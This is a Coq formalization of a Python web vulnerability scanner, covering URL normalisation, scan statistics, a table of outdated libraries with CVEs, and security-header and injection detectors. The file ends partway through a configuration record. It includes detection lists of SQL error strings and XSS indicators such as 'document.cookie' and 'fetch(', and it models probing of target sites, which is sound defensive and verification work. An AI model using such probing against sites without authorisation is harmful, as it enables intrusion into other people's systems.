(** * Crawler: a shallow embedding of the scan engine

    The development follows the Python sources of the scanner:
    - [scanner/utils.py]   URL normalisation, scoping, header and SQL checks
    - [scanner/stats.py]   the statistics aggregator
    - [scanner/scanner.py] the scan coordinator ([Scanner])
    - [scanner/crawler.py] the threaded crawler ([WebCrawler])
    - [scanner/sqli.py]    the per-parameter SQL injection probe
    - [scanner/vulnerable_components.py] the library version check

    Python [str] values are [string]s, [dict]s are association lists in
    insertion order, the visited set is a [gset string], Python [float]s are
    binary64 primitive floats, and effects (requests, sleeps, mutation of the
    scanner object) are threaded through explicit state. *)

From Stdlib Require Import String Ascii List ZArith Lia Bool.
From Stdlib Require Import Floats.
From stdpp Require Import base decidable option list strings gmap.
Import ListNotations.

Local Open Scope string_scope.
Local Open Scope Z_scope.

(** ** Python string builtins *)

Module Py.

(** [s.startswith(p)] *)
Definition startswith (s p : string) : bool := String.prefix p s.

(** [s.endswith(p)] *)
Definition endswith (s p : string) : bool :=
  let n := String.length s in
  let m := String.length p in
  (m <=? n)%nat && String.eqb (String.substring (n - m) m s) p.

(** [p in s] for strings *)
Fixpoint contains (s p : string) : bool :=
  String.prefix p s ||
  match s with
  | EmptyString => false
  | String _ s' => contains s' p
  end.

(** [c in s] for a single character *)
Fixpoint has_char (c : ascii) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String d s' => Ascii.eqb c d || has_char c s'
  end.

(** [s.partition(c)] without the separator: the text before the first [c]
    and the text after it, or [None] when [c] does not occur. *)
Fixpoint split_first (c : ascii) (s : string) : option (string * string) :=
  match s with
  | EmptyString => None
  | String d s' =>
      if Ascii.eqb c d then Some (EmptyString, s')
      else match split_first c s' with
           | Some (a, b) => Some (String d a, b)
           | None => None
           end
  end.

(** The text up to and including the last [c], and the text after it. *)
Fixpoint split_last (c : ascii) (s : string) : option (string * string) :=
  match s with
  | EmptyString => None
  | String d s' =>
      match split_last c s' with
      | Some (a, b) => Some (String d a, b)
      | None => if Ascii.eqb c d then Some (String d EmptyString, s') else None
      end
  end.

(** The longest prefix without a character satisfying [p], and the rest. *)
Fixpoint break (p : ascii -> bool) (s : string) : string * string :=
  match s with
  | EmptyString => (EmptyString, EmptyString)
  | String d s' =>
      if p d then (EmptyString, s)
      else let '(a, b) := break p s' in (String d a, b)
  end.

Definition is_upper (c : ascii) : bool :=
  let n := nat_of_ascii c in (65 <=? n)%nat && (n <=? 90)%nat.

Definition is_lower (c : ascii) : bool :=
  let n := nat_of_ascii c in (97 <=? n)%nat && (n <=? 122)%nat.

Definition is_digit (c : ascii) : bool :=
  let n := nat_of_ascii c in (48 <=? n)%nat && (n <=? 57)%nat.

Definition lower_char (c : ascii) : ascii :=
  if is_upper c then ascii_of_nat (nat_of_ascii c + 32) else c.

(** [s.lower()] on ASCII text *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_char c) (lower s')
  end.

(** [s.replace(a, b)] for single characters *)
Fixpoint replace_char (a b : ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (if Ascii.eqb c a then b else c) (replace_char a b s')
  end.

Fixpoint remove_chars (p : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if p c then remove_chars p s' else String c (remove_chars p s')
  end.

Fixpoint lstrip (p : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if p c then lstrip p s' else s
  end.

Fixpoint all_chars (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => p c && all_chars p s'
  end.

(** [s[:-1]] *)
Fixpoint drop_last (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c EmptyString => EmptyString
  | String c s' => String c (drop_last s')
  end.

(** [s.split(c)] *)
Fixpoint split (c : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String d s' =>
      if Ascii.eqb c d then EmptyString :: split c s'
      else match split c s' with
           | [] => [String d EmptyString]
           | w :: ws => String d w :: ws
           end
  end.

(** Truthiness of a string: [if s:] *)
Definition truthy (s : string) : bool :=
  match s with EmptyString => false | _ => true end.

Definition str_in (s : string) (l : list string) : bool :=
  existsb (String.eqb s) l.

(** No character of [s] satisfies [p]. *)
Definition not_in (p : ascii -> bool) (s : string) : bool :=
  all_chars (fun c => negb (p c)) s.

End Py.

(** ** urllib.parse

    [urlparse] and [urlunparse] belong to the Python standard library; they
    are written out here after the library's code for the six-component
    generic syntax [scheme://netloc/path;params?query#fragment].  The
    library's [ValueError] checks on bracketed hosts are left out. *)

Module Urllib.

Record ParseResult := mkParse {
  scheme : string;
  netloc : string;
  path : string;
  params : string;
  query : string;
  fragment : string
}.

Definition uses_params : list string :=
  [""; "ftp"; "hdl"; "prospero"; "http"; "imap"; "https"; "shttp"; "rtsp";
   "rtspu"; "sip"; "sips"; "mms"; "sftp"; "tel"].

Definition uses_netloc : list string :=
  [""; "ftp"; "http"; "gopher"; "nntp"; "telnet"; "imap"; "wais"; "file";
   "mms"; "https"; "shttp"; "snews"; "prospero"; "rtsp"; "rtspu"; "rsync";
   "svn"; "svn+ssh"; "sftp"; "nfs"; "git"; "git+ssh"; "ws"; "wss"].

Definition is_c0_or_space (c : ascii) : bool := (nat_of_ascii c <=? 32)%nat.

Definition is_unsafe (c : ascii) : bool :=
  let n := nat_of_ascii c in
  Nat.eqb n 9 || Nat.eqb n 10 || Nat.eqb n 13.

Definition is_alpha (c : ascii) : bool := Py.is_upper c || Py.is_lower c.

Definition scheme_char (c : ascii) : bool :=
  is_alpha c || Py.is_digit c || Py.has_char c "+-.".

(** The scheme test of [urlsplit]: the text before the first colon is a
    scheme when it is not empty, starts with a letter and holds scheme
    characters only. *)
Definition split_scheme (url : string) : string * string :=
  match Py.split_first ":" url with
  | Some (String c0 rest as pre, post) =>
      if is_alpha c0 && Py.all_chars scheme_char pre
      then (Py.lower pre, post)
      else (EmptyString, url)
  | _ => (EmptyString, url)
  end.

Definition is_netloc_delim (c : ascii) : bool := Py.has_char c "/?#".

(** [_splitnetloc(url, 2)] under the test [url[:2] == '//'] *)
Definition split_netloc (url : string) : string * string :=
  match url with
  | String "/" (String "/" rest) => Py.break is_netloc_delim rest
  | _ => (EmptyString, url)
  end.

Definition split_on (c : ascii) (url : string) : string * string :=
  match Py.split_first c url with
  | Some (a, b) => (a, b)
  | None => (url, EmptyString)
  end.

Record SplitResult := mkSplit {
  s_scheme : string;
  s_netloc : string;
  s_path : string;
  s_query : string;
  s_fragment : string
}.

Definition urlsplit (url0 : string) : SplitResult :=
  let url := Py.remove_chars is_unsafe (Py.lstrip is_c0_or_space url0) in
  let '(sch, url) := split_scheme url in
  let '(net, url) := split_netloc url in
  let '(url, frag) := split_on "#" url in
  let '(url, qry) := split_on "?" url in
  mkSplit sch net url qry frag.

(** [_splitparams] *)
Definition splitparams (url : string) : string * string :=
  match Py.split_last "/" url with
  | Some (dir, seg) =>
      match Py.split_first ";" seg with
      | Some (a, b) => (dir ++ a, b)
      | None => (url, EmptyString)
      end
  | None => split_on ";" url
  end.

Definition urlparse (url : string) : ParseResult :=
  let r := urlsplit url in
  let '(p, prm) :=
    if Py.str_in (s_scheme r) uses_params && Py.has_char ";" (s_path r)
    then splitparams (s_path r)
    else (s_path r, EmptyString) in
  mkParse (s_scheme r) (s_netloc r) p prm (s_query r) (s_fragment r).

Definition urlunsplit (r : SplitResult) : string :=
  let url := s_path r in
  let url :=
    if Py.truthy (s_netloc r)
       || (Py.truthy (s_scheme r) && Py.str_in (s_scheme r) uses_netloc
           && negb (Py.startswith url "//"))
    then
      let url :=
        if Py.truthy url && negb (Py.startswith url "/") then "/" ++ url else url in
      "//" ++ s_netloc r ++ url
    else url in
  let url := if Py.truthy (s_scheme r) then s_scheme r ++ ":" ++ url else url in
  let url := if Py.truthy (s_query r) then url ++ "?" ++ s_query r else url in
  if Py.truthy (s_fragment r) then url ++ "#" ++ s_fragment r else url.

Definition urlunparse (p : ParseResult) : string :=
  let url := if Py.truthy (params p) then path p ++ ";" ++ params p else path p in
  urlunsplit (mkSplit (scheme p) (netloc p) url (query p) (fragment p)).

(** A scheme as [urlsplit] returns it when it finds one: letters, digits
    and [+-.] after a first letter, in lower case. *)
Definition good_scheme (sch : string) : Prop :=
  match sch with
  | String c0 _ =>
      is_alpha c0 = true /\ Py.all_chars scheme_char sch = true /\ Py.lower sch = sch
  | EmptyString => False
  end.
(** A network location as [urlsplit] cuts it out: no [/], [?] or [#] and
    no tab or line break. *)
Definition good_netloc (net : string) : Prop :=
  Py.not_in is_netloc_delim net = true /\ Py.not_in is_unsafe net = true.

End Urllib.

(** ** scanner/utils.py: URL helpers *)

Module Utils.
Import Urllib.

(** The path rule of [normalize_url]: an empty path becomes the root, and
    one trailing slash is cut from a path longer than one character. *)
Definition normalize_path (p : string) : string :=
  let p := if Py.truthy p then p else "/" in
  if Py.endswith p "/" && (1 <? String.length p)%nat then Py.drop_last p else p.

Definition normalize_url (url : string) : string :=
  let parsed := urlparse url in
  urlunparse
    (mkParse (scheme parsed) (netloc parsed) (normalize_path (path parsed))
             (params parsed) (query parsed) EmptyString).

Definition is_valid_url (url : string) : bool :=
  let r := urlparse url in
  Py.truthy (scheme r) && Py.truthy (netloc r).

Definition get_base_url (url : string) : string :=
  let parsed := urlparse url in
  scheme parsed ++ "://" ++ netloc parsed.

Definition is_same_domain (url1 url2 : string) : bool :=
  String.eqb (get_base_url url1) (get_base_url url2).

End Utils.

(** ** Forms and findings

    The dictionaries the scanner passes around: an input field, a form, and
    the [vuln_data] of [Scanner._add_vulnerability] (the timestamp, which is
    wall-clock time, is left out). *)

Record InputField := mkInput {
  i_type : string;
  i_name : string;
  i_value : string
}.

Record Form := mkForm {
  f_action : string;
  f_method : string;
  f_inputs : list InputField
}.

Inductive DetailValue :=
| DStr (s : string)
| DForm (f : Form).

Record Vulnerability := mkVuln {
  v_type : string;
  v_url : string;
  v_details : list (string * DetailValue);
  v_file : string
}.

(** [d.get(k)] on a dictionary kept in insertion order *)
Fixpoint dict_get {V : Type} (k : string) (d : list (string * V)) : option V :=
  match d with
  | [] => None
  | (k', v) :: d' => if String.eqb k k' then Some v else dict_get k d'
  end.

(** [d[k] = v]: an existing key keeps its place, a new key goes last. *)
Fixpoint dict_set {V : Type} (k : string) (v : V) (d : list (string * V)) : list (string * V) :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: d' =>
      if String.eqb k k' then (k, v) :: d' else (k', v') :: dict_set k v d'
  end.

(** ** scanner/stats.py: the statistics aggregator *)

Module Stats.

(** An entry of [vulnerable_urls]; [details] is the [vuln_data] dictionary
    the scanner hands over. *)
Record VulnData := mkVulnData {
  vd_type : string;
  vd_url : string;
  vd_details : Vulnerability
}.

Record ScanStats := mkStats {
  total_urls_scanned : Z;
  total_requests : Z;
  total_errors : Z;
  total_vulnerabilities : Z;
  vulnerabilities_by_type : gmap string Z;
  errors_by_type : gmap string Z;
  response_codes : gmap Z Z;
  scanned_urls : list string;
  vulnerable_urls : list VulnData;
  avg_response_time : float;
  total_response_time : float;
  min_response_time : float;
  max_response_time : float
}.

(** [ScanStats.__init__] *)
Definition init : ScanStats :=
  {| total_urls_scanned := 0;
     total_requests := 0;
     total_errors := 0;
     total_vulnerabilities := 0;
     vulnerabilities_by_type :=
       list_to_map
         [("xss", 0); ("sql_injection", 0); ("broken_access_control", 0);
          ("crypto_failure_no_https", 0); ("crypto_failure_insecure_cookies", 0);
          ("crypto_failure_outdated_tls", 0); ("insecure_design_csrf", 0);
          ("insecure_design_no_rate_limiting", 0)];
     errors_by_type := ∅;
     response_codes := ∅;
     scanned_urls := [];
     vulnerable_urls := [];
     avg_response_time := 0%float;
     total_response_time := 0%float;
     min_response_time := infinity;
     max_response_time := 0%float |}.

(** [d[k] = d.get(k, 0) + 1] *)
Definition bump `{Countable K} (k : K) (d : gmap K Z) : gmap K Z :=
  <[k := default 0 (d !! k) + 1]> d.

Definition add_url (url : string) (s : ScanStats) : ScanStats :=
  {| total_urls_scanned := total_urls_scanned s + 1;
     total_requests := total_requests s;
     total_errors := total_errors s;
     total_vulnerabilities := total_vulnerabilities s;
     vulnerabilities_by_type := vulnerabilities_by_type s;
     errors_by_type := errors_by_type s;
     response_codes := response_codes s;
     scanned_urls := (scanned_urls s ++ [url])%list;
     vulnerable_urls := vulnerable_urls s;
     avg_response_time := avg_response_time s;
     total_response_time := total_response_time s;
     min_response_time := min_response_time s;
     max_response_time := max_response_time s |}.

Definition add_vulnerability (vuln_type url : string)
    (details : Vulnerability) (s : ScanStats) : ScanStats :=
  {| total_urls_scanned := total_urls_scanned s;
     total_requests := total_requests s;
     total_errors := total_errors s;
     total_vulnerabilities := total_vulnerabilities s + 1;
     vulnerabilities_by_type := bump vuln_type (vulnerabilities_by_type s);
     errors_by_type := errors_by_type s;
     response_codes := response_codes s;
     scanned_urls := scanned_urls s;
     vulnerable_urls := (vulnerable_urls s ++ [mkVulnData vuln_type url details])%list;
     avg_response_time := avg_response_time s;
     total_response_time := total_response_time s;
     min_response_time := min_response_time s;
     max_response_time := max_response_time s |}.

Definition add_error (error_type : string) (s : ScanStats) : ScanStats :=
  {| total_urls_scanned := total_urls_scanned s;
     total_requests := total_requests s;
     total_errors := total_errors s + 1;
     total_vulnerabilities := total_vulnerabilities s;
     vulnerabilities_by_type := vulnerabilities_by_type s;
     errors_by_type := bump error_type (errors_by_type s);
     response_codes := response_codes s;
     scanned_urls := scanned_urls s;
     vulnerable_urls := vulnerable_urls s;
     avg_response_time := avg_response_time s;
     total_response_time := total_response_time s;
     min_response_time := min_response_time s;
     max_response_time := max_response_time s |}.

(** Python's [min(a, b)] and [max(a, b)]: the first argument is kept
    unless the second is strictly smaller (larger). *)
Definition py_min (a b : float) : float := if PrimFloat.ltb b a then b else a.
Definition py_max (a b : float) : float := if PrimFloat.ltb a b then b else a.

(** The conversion of the request counter in [float / int]. *)
Definition float_of_Z (n : Z) : float := PrimFloat.of_uint63 (Uint63.of_Z n).

Definition add_response (status_code : Z) (response_time : float)
    (s : ScanStats) : ScanStats :=
  let requests := total_requests s + 1 in
  let total := PrimFloat.add (total_response_time s) response_time in
  {| total_urls_scanned := total_urls_scanned s;
     total_requests := requests;
     total_errors := total_errors s;
     total_vulnerabilities := total_vulnerabilities s;
     vulnerabilities_by_type := vulnerabilities_by_type s;
     errors_by_type := errors_by_type s;
     response_codes := bump status_code (response_codes s);
     scanned_urls := scanned_urls s;
     vulnerable_urls := vulnerable_urls s;
     avg_response_time := PrimFloat.div total (float_of_Z requests);
     total_response_time := total;
     min_response_time := py_min (min_response_time s) response_time;
     max_response_time := py_max (max_response_time s) response_time |}.

(** The ['performance'] entry of [get_summary]. *)
Record Performance := mkPerf {
  p_avg : float;
  p_min : float;
  p_max : float
}.

Definition get_summary_performance (s : ScanStats) : Performance :=
  mkPerf (avg_response_time s) (min_response_time s) (max_response_time s).

(** A run of [add_response] calls on a fresh aggregator. *)
Definition record_all (rs : list (Z * float)) (s : ScanStats) : ScanStats :=
  fold_left (fun acc r => add_response (fst r) (snd r) acc) rs s.

(** Every recorded response time is a number. *)
Definition no_nan (rs : list (Z * float)) : Prop :=
  Forall (fun r => PrimFloat.is_nan (snd r) = false) rs.

End Stats.

(** One tenth of a second, the nearest binary64 value to 0.1. *)
Definition tenth : float := 0x1.999999999999ap-4%float.

(** ** scanner/vulnerable_components.py *)

Module Components.

Record LibInfo := mkLib {
  versions : list string;
  cve : string;
  description : string;
  severity : string;
  recommendation : string;
  consequences : string
}.

Definition jquery_info : LibInfo :=
  mkLib ["1.0"; "1.1"; "1.2"; "1.3"; "1.4"; "1.5"; "1.6"; "1.7"; "1.8"; "1.9";
         "1.10"; "1.11"; "1.12"; "2.0"; "2.1"; "2.2"; "3.0"; "3.1"; "3.2";
         "3.3"; "3.4"]
        "Multiple CVEs"
        "Multiple vulnerabilities in jQuery may allow XSS, prototype pollution, or other security issues"
        "Medium"
        "Update to the latest version of jQuery"
        "Outdated jQuery versions may contain security vulnerabilities that could be exploited by attackers".

Definition bootstrap_info : LibInfo :=
  mkLib ["2.0"; "2.1"; "2.2"; "2.3"; "3.0"; "3.1"; "3.2"; "3.3"; "4.0"; "4.1";
         "4.2"; "4.3"; "4.4"]
        "Multiple CVEs"
        "Multiple vulnerabilities in Bootstrap may allow XSS or other security issues"
        "Medium"
        "Update to the latest version of Bootstrap"
        "Outdated Bootstrap versions may contain security vulnerabilities that could be exploited by attackers".

Definition angular_info : LibInfo :=
  mkLib ["1.0"; "1.1"; "1.2"; "1.3"; "1.4"; "1.5"; "1.6"; "1.7"; "2.0"; "2.1";
         "2.2"; "2.3"; "2.4"; "4.0"; "4.1"; "4.2"; "4.3"; "5.0"; "5.1"; "5.2";
         "6.0"; "6.1"; "7.0"; "7.1"; "7.2"; "8.0"; "8.1"; "8.2"; "9.0"]
        "Multiple CVEs"
        "Multiple vulnerabilities in AngularJS may allow XSS, prototype pollution, or other security issues"
        "High"
        "Update to the latest version of Angular"
        "Outdated Angular versions may contain security vulnerabilities that could be exploited by attackers".

Definition react_info : LibInfo :=
  mkLib ["0.3"; "0.4"; "0.5"; "0.6"; "0.7"; "0.8"; "0.9"; "0.10"; "0.11";
         "0.12"; "0.13"; "0.14"; "15.0"; "15.1"; "15.2"; "15.3"; "15.4";
         "15.5"; "15.6"; "16.0"; "16.1"; "16.2"; "16.3"; "16.4"; "16.5";
         "16.6"; "16.7"; "16.8"; "16.9"]
        "Multiple CVEs"
        "Multiple vulnerabilities in React may allow XSS or other security issues"
        "Medium"
        "Update to the latest version of React"
        "Outdated React versions may contain security vulnerabilities that could be exploited by attackers".

Definition vue_info : LibInfo :=
  mkLib ["1.0"; "2.0"; "2.1"; "2.2"; "2.3"; "2.4"; "2.5"; "2.6"]
        "Multiple CVEs"
        "Multiple vulnerabilities in Vue may allow XSS or other security issues"
        "Medium"
        "Update to the latest version of Vue"
        "Outdated Vue versions may contain security vulnerabilities that could be exploited by attackers".

Definition lodash_info : LibInfo :=
  mkLib ["0.1"; "0.2"; "0.3"; "0.4"; "0.5"; "0.6"; "0.7"; "0.8"; "0.9"; "1.0";
         "1.1"; "1.2"; "1.3"; "2.0"; "2.1"; "2.2"; "2.3"; "2.4"; "3.0"; "3.1";
         "3.2"; "3.3"; "3.4"; "3.5"; "3.6"; "3.7"; "3.8"; "3.9"; "3.10"; "4.0";
         "4.1"; "4.2"; "4.3"; "4.4"; "4.5"; "4.6"; "4.7"; "4.8"; "4.9"; "4.10";
         "4.11"; "4.12"; "4.13"; "4.14"; "4.15"; "4.16"; "4.17.0"; "4.17.1";
         "4.17.2"; "4.17.3"; "4.17.4"; "4.17.5"; "4.17.6"; "4.17.7"; "4.17.8";
         "4.17.9"; "4.17.10"; "4.17.11"; "4.17.12"; "4.17.13"; "4.17.14";
         "4.17.15"]
        "CVE-2019-10744"
        "Prototype pollution vulnerability in Lodash"
        "High"
        "Update to the latest version of Lodash"
        "Attackers could potentially modify Object prototype, leading to application crashes or remote code execution".

Definition moment_info : LibInfo :=
  mkLib ["1.0"; "1.1"; "1.2"; "1.3"; "1.4"; "1.5"; "1.6"; "1.7"; "2.0"; "2.1";
         "2.2"; "2.3"; "2.4"; "2.5"; "2.6"; "2.7"; "2.8"; "2.9"; "2.10"; "2.11";
         "2.12"; "2.13"; "2.14"; "2.15"; "2.16"; "2.17"; "2.18"; "2.19"]
        "CVE-2017-18214"
        "Regular expression denial of service (ReDoS) vulnerability in Moment.js"
        "Medium"
        "Update to the latest version of Moment.js"
        "Attackers could cause denial of service by providing specially crafted input to the parser".

(** The built-in table; [load_vulnerability_database] merges a JSON file
    into it only when [data/vulnerable_libraries.json] exists. *)
Definition VULNERABLE_LIBRARIES : list (string * LibInfo) :=
  [("jquery", jquery_info); ("bootstrap", bootstrap_info);
   ("angular", angular_info); ("react", react_info); ("vue", vue_info);
   ("lodash", lodash_info); ("moment", moment_info)].

Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  Nat.eqb n 32 || ((9 <=? n)%nat && (n <=? 13)%nat).

Fixpoint rstrip_space (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      match rstrip_space s' with
      | EmptyString => if is_space c then EmptyString else String c EmptyString
      | t => String c t
      end
  end.

Definition digit_val (c : ascii) : Z := Z.of_nat (nat_of_ascii c) - 48.

(** Decimal digits, with single underscores between digits as Python's
    [int] allows them. *)
Fixpoint digits_val (acc : Z) (seen : bool) (s : string) : option Z :=
  match s with
  | EmptyString => if seen then Some acc else None
  | String c s' =>
      if Py.is_digit c then digits_val (10 * acc + digit_val c) true s'
      else if Ascii.eqb c "_" && seen then
        match s' with
        | String d _ => if Py.is_digit d then digits_val acc true s' else None
        | EmptyString => None
        end
      else None
  end.

(** [int(s)] on a string: surrounding white space, an optional sign, decimal
    digits; [None] stands for [ValueError]. *)
Definition py_int (s : string) : option Z :=
  match rstrip_space (Py.lstrip is_space s) with
  | String "-" t => option_map Z.opp (digits_val 0 false t)
  | String "+" t => digits_val 0 false t
  | t => digits_val 0 false t
  end.

(** [[int(part) for part in version.split('.')]] *)
Definition version_parts (version : string) : option (list Z) :=
  mapM py_int (Py.split "." version).

(** The component loop: [true] when the loop leaves [is_older] set. *)
Fixpoint compare_loop (idxs : list nat) (vp vvp : list Z) : bool :=
  match idxs with
  | [] => false
  | i :: rest =>
      let v1 := nth i vp 0 in
      let v2 := nth i vvp 0 in
      if v1 <? v2 then true
      else if v1 >? v2 then false
      else compare_loop rest vp vvp
  end.

Definition is_older (vp vvp : list Z) : bool :=
  compare_loop (seq 0 (Nat.max (length vp) (length vvp))) vp vvp.

(** The loop over the listed versions: the first listed version that parses
    and that [version] is not older than makes the library reported. *)
Fixpoint scan_versions (vp : list Z) (listed : list string) : bool :=
  match listed with
  | [] => false
  | vuln_version :: rest =>
      match version_parts vuln_version with
      | Some vvp => if negb (is_older vp vvp) then true else scan_versions vp rest
      | None => scan_versions vp rest
      end
  end.

Definition check_library_vulnerability (library version : string) : option LibInfo :=
  match dict_get (Py.lower library) VULNERABLE_LIBRARIES with
  | None => None
  | Some lib_info =>
      if Py.str_in version (versions lib_info) then Some lib_info
      else match version_parts version with
           | None => Some lib_info
           | Some vp => if scan_versions vp (versions lib_info) then Some lib_info else None
           end
  end.

End Components.

(** ** The outside world

    Responses of the [requests] library, the tags BeautifulSoup finds, and
    the environment a scan runs in.  The environment answers every request
    as a function of the events so far, so a server may change its answers
    over time. *)

Record Response := mkResponse {
  status_code : Z;
  elapsed : float;
  headers : list (string * string);
  text : string
}.

(** A tag of [find_all(['a', 'link', 'script', 'img'])] with its [href] and
    [src] attributes. *)
Record LinkTag := mkLinkTag {
  t_href : option string;
  t_src : option string
}.

Record InputTag := mkInputTag {
  it_type : option string;
  it_name : option string;
  it_value : option string
}.

Record FormTag := mkFormTag {
  ft_action : option string;
  ft_method : option string;
  ft_inputs : list InputTag
}.

(** What a call that may raise gives back. *)
Inductive Outcome :=
| Ok (r : Response)
| RequestException
| OtherException.

(** The calls of the scanner that leave the process, by call site. *)
Inductive Event :=
| EvFetch (url : string)
| EvSubmit (method action : string) (data : list (string * string))
| EvFormGet (form_url : string)
| EvSleep (seconds : float).

Definition Trace := list Event.

(** The per-page analyzers that [_scan_url] calls after the header check, in
    call order, and the two that sit elsewhere. *)
Inductive Analyzer :=
| XssParams
| Crypto
| Misconfiguration
| VulnerableComponents
| AuthFailures
| IntegrityFailures
| LoggingMonitoring
| Ssrf.

(** A finding as an analyzer returns it: [vuln['type']] and
    [vuln['details']]. *)
Definition RawFinding := (string * list (string * DetailValue))%type.

Record Env := mkEnv {
  (** [urllib.parse.urljoin] *)
  urljoin : string -> string -> string;
  (** [BeautifulSoup(html, 'html.parser').find_all(['a', 'link', 'script', 'img'])] *)
  find_link_tags : string -> list LinkTag;
  (** [BeautifulSoup(html, 'html.parser').find_all('form')] with the inputs
      of each form *)
  find_forms : string -> list FormTag;
  (** [str(soup)] after every [textarea], [code] and [pre] is decomposed *)
  cleaned_html : string -> string;
  (** the iteration order of [list(set(links))] *)
  list_of_set : list string -> list string;
  (** the answer to the next request, given the events so far *)
  respond : Trace -> Event -> Outcome;
  (** the findings of an analyzer on a page; [None] when it raises *)
  analyze : Analyzer -> Trace -> string -> Response -> option (list RawFinding);
  (** [check_insecure_design] on a form; [None] when it raises *)
  insecure_design : Trace -> string -> Form -> Response -> option (list RawFinding);
  (** [check_access_control] on the start URL, each finding with its own
      URL; [None] when it raises *)
  access_control : Trace -> string -> option (list (string * RawFinding))
}.

(** ** scanner/utils.py: responses *)

Module Headers.

Record HeaderInfo := mkInfo {
  h_description : string;
  h_consequences : string
}.

(** The table of [extract_headers], in the order of the dictionary. *)
Definition security_headers : list (string * HeaderInfo) :=
  [("X-Frame-Options",
    mkInfo "Protects against clickjacking attacks"
           "Without this header, attackers could embed your site in a malicious webpage and trick users into clicking on elements they didn't intend to, potentially leading to unwanted actions or data theft.");
   ("X-Content-Type-Options",
    mkInfo "Prevents MIME-sniffing attacks"
           "Without this header, browsers might interpret files as a different type than what you intended, allowing attackers to potentially execute malicious scripts even when they shouldn't be executable.");
   ("X-XSS-Protection",
    mkInfo "Provides protection against cross-site scripting"
           "Without this header, malicious scripts could be injected into your webpage and execute in users' browsers, potentially stealing cookies, session tokens, or other sensitive information.");
   ("Content-Security-Policy",
    mkInfo "Controls resources the browser is allowed to load"
           "Without this header, your site could load resources from any source, making it vulnerable to script injection attacks that could compromise user data or take control of page behavior.");
   ("Strict-Transport-Security",
    mkInfo "Forces HTTPS connections"
           "Without this header, communications between your site and users might be downgraded to insecure HTTP, allowing attackers to intercept and modify data in transit, or perform man-in-the-middle attacks.");
   ("Referrer-Policy",
    mkInfo "Controls how much referrer information is included with requests"
           "Without this header, sensitive information might be leaked in the referrer header when users navigate from your site to other sites, potentially exposing private data or user activity.")].

(** [response.headers[name]] on the case-insensitive dictionary of
    [requests]: keys are compared in lower case. *)
Fixpoint ci_get (name : string) (hs : list (string * string)) : option string :=
  match hs with
  | [] => None
  | (k, v) :: hs' =>
      if String.eqb (Py.lower k) (Py.lower name) then Some v else ci_get name hs'
  end.


Record HeadersResult := mkHeadersResult {
  found : list (string * string);
  missing : list (string * HeaderInfo)
}.

Fixpoint extract_loop (table : list (string * HeaderInfo)) (response : Response)
    (acc : HeadersResult) : HeadersResult :=
  match table with
  | [] => acc
  | (header, info) :: rest =>
      match ci_get header (headers response) with
      | Some v => extract_loop rest response
                    (mkHeadersResult (dict_set header v (found acc)) (missing acc))
      | None => extract_loop rest response
                    (mkHeadersResult (found acc) (dict_set header info (missing acc)))
      end
  end.

Definition extract_headers (response : Response) : HeadersResult :=
  extract_loop security_headers response (mkHeadersResult [] []).

(** The finding [_scan_url] reports for one missing header. *)
Definition missing_finding (header : string) (info : HeaderInfo) : RawFinding :=
  ("missing_" ++ Py.replace_char "-" "_" (Py.lower header),
   [("description", DStr ("Missing " ++ header ++ ": " ++ h_description info));
    ("recommendation", DStr ("Implement the " ++ header ++ " header to improve security"));
    ("severity", DStr "Medium");
    ("header_name", DStr header);
    ("header_description", DStr (h_description info));
    ("consequences", DStr (h_consequences info))]).

(** The header check of [_scan_url]: one finding per entry of
    [headers_result['missing']]. *)
Definition header_findings (response : Response) : list RawFinding :=
  map (fun hi => missing_finding (fst hi) (snd hi)) (missing (extract_headers response)).


End Headers.

(** ** scanner/utils.py: response helpers *)

Module Detect.

Definition is_error_response (response : Response) : bool :=
  status_code response >=? 400.

Definition get_error_type (response : Response) : string :=
  if status_code response >=? 500 then "server_error"
  else if status_code response >=? 400 then "client_error"
  else "unknown".

Definition sql_errors : list string :=
  ["SQL syntax"; "mysql_fetch_array"; "mysql_fetch_assoc"; "mysql_num_rows";
   "mysql_result"; "mysql_query"; "mysql error"; "ORA-"; "SQLite/JDBCDriver";
   "SQLite.Exception"; "System.Data.SQLite.SQLiteException"; "Warning: mysql_";
   "PostgreSQL.*ERROR"; "Warning.*pg_"; "valid PostgreSQL result"; "Npgsql.";
   "Microsoft SQL Server"; "ODBC SQL Server Driver"; "SQLServer JDBC Driver";
   "com.microsoft.sqlserver.jdbc"; "SQLServerException"; "SQLServer JDBC Driver";
   "SQLServerDriver"; "SQLServer"; "SQLite/JDBCDriver"; "SQLite.Exception";
   "System.Data.SQLite.SQLiteException"; "Warning: mysql_"; "valid MySQL result";
   "check the manual that corresponds to your (MySQL|MariaDB) server version";
   "Unknown column"; "MySqlClient."; "com.mysql.jdbc.exceptions"].

Definition is_vulnerable_to_sql_injection (response : Response) (payload : string) : bool :=
  let content := Py.lower (text response) in
  existsb (fun error => Py.contains content (Py.lower error)) sql_errors.

Definition XSS_INDICATORS : list string :=
  ["<script>"; "javascript:"; "onerror="; "onload="; "onclick="; "onmouseover=";
   "onfocus="; "onmouseout="; "onkeypress="; "onsubmit="; "ontoggle="; "alert(";
   "String.fromCharCode"; "eval("; "document.cookie"; "fetch("].

(** [is_vulnerable_to_xss], which goes to [is_vulnerable_to_xss_advanced]. *)
Definition is_vulnerable_to_xss (E : Env) (response : Response) (payload : string) : bool :=
  Py.contains (text response) payload &&
  existsb (fun indicator =>
             Py.contains payload indicator && Py.contains (text response) indicator
             && Py.contains (cleaned_html E (text response)) indicator)
          XSS_INDICATORS.

End Detect.

(** ** scanner/scanner.py: the scan coordinator *)

Module Scanner.
Import Utils.

Record Config := mkConfig {
  max_depth : Z;
  max_pages : Z;
  max_retries : Z;
  scan_delay : float;
  rate_limit : Z;
  scan_forms : bool;
  scan_links : bool;
  scan_headers : bool;
  scan_xss : bool;
  scan_broken_access : bool;
  scan_insecure_design : bool;
  (** the per-category switches of the page analyzers *)
